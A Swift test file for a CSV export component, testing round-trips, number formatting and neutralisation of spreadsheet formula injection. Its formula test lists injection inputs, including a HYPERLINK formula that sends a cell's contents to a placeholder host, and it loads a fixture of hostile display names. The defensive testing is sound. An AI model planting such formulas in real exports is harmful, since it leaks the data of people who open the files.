import Foundation
import JSON
import Testing
import TestSupport

@testable import Reports

@Suite("Comma-separated values")
struct CSVTextTests {
  @Test("Python reads back what was written, whatever the text")
  func roundTrip() throws {
    let texts = [
      "plain", "", "a,b;c\"d", "\"quoted\"", "two\r\nlines", "line\nfeed", "Айгүл Ә. Ө.", " blank ",
      "emoji 👩‍🎓", "semi;colon", "tab\tinside",
    ]
    var csv = CSVText()
    for text in texts { csv.append([.text(text), .text("end")]) }
    let script = """
      import csv, io, json, sys
      text = sys.stdin.buffer.read().decode()
      print(json.dumps([row for row in csv.reader(io.StringIO(text, newline=""))]))
      """
    let judge = try ProgramStart("python3", ["-c", script]).run(input: csv.text)
    #expect(judge.exit == .code(0))
    let rows = try JSONValue(parsing: judge.output).arrayValue
    #expect(rows?.map { $0.arrayValue?.first?.stringValue } == texts)
    #expect(rows?.allSatisfy { $0.arrayValue?.last?.stringValue == "end" } == true)
  }

  @Test(
    "A text that a spreadsheet would run begins with an apostrophe (T13)",
    arguments: [
      "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "＋1", "－1", "＠1",
      "  =1", "=HYPERLINK(\"http://e/?\"&A1)",
    ]
  )
  func formulas(text: String) {
    var csv = CSVText()
    csv.append([.text(text)])
    #expect(csv.text.drop { $0 == "\"" }.first == "'")
  }

  @Test("The hostile names can be written, and no cell of them is a formula (T13)")
  func hostileNames() throws {
    // Our own reader refuses the list, since one of the names holds a NUL.
    let data = Data(try Project.bytes("Tests/Fixtures/hostile/display-names.json"))
    let listed = try #require(try JSONSerialization.jsonObject(with: data) as? [String])
    #expect(listed.count > 10)
    for name in listed {
      var csv = CSVText()
      csv.append([.text(name)])
      let first = csv.text.unicodeScalars.dropLast(2).first { $0 != "\"" && $0 != " " }
      #expect(!["=", "+", "-", "@", "＝", "\t", "\r", "\n"].contains(first))
    }
  }

  @Test(
    "Numbers are written in their shortest exact form, without a sign that would need care",
    arguments: [
      (CSVText.Cell.integer(-3), "-3"), (.number(0.1), "0.1"), (.number(2), "2"),
      (.number(-0.25), "-0.25"), (.number(1e300), "1e+300"), (.number(.nan), ""),
      (.number(.infinity), ""), (.empty, ""),
    ]
  )
  func numbers(cell: CSVText.Cell, expected: String) {
    var csv = CSVText()
    csv.append([cell])
    #expect(csv.text == expected + "\r\n")
  }

  @Test("Names of columns stand in the first line, behind the mark where it is asked for")
  func columns() {
    #expect(CSVText(columns: ["a", "b"]).text == "a,b\r\n")
    #expect(CSVText(columns: ["a"], byteOrderMark: true).text == "\u{FEFF}a\r\n")
  }
}
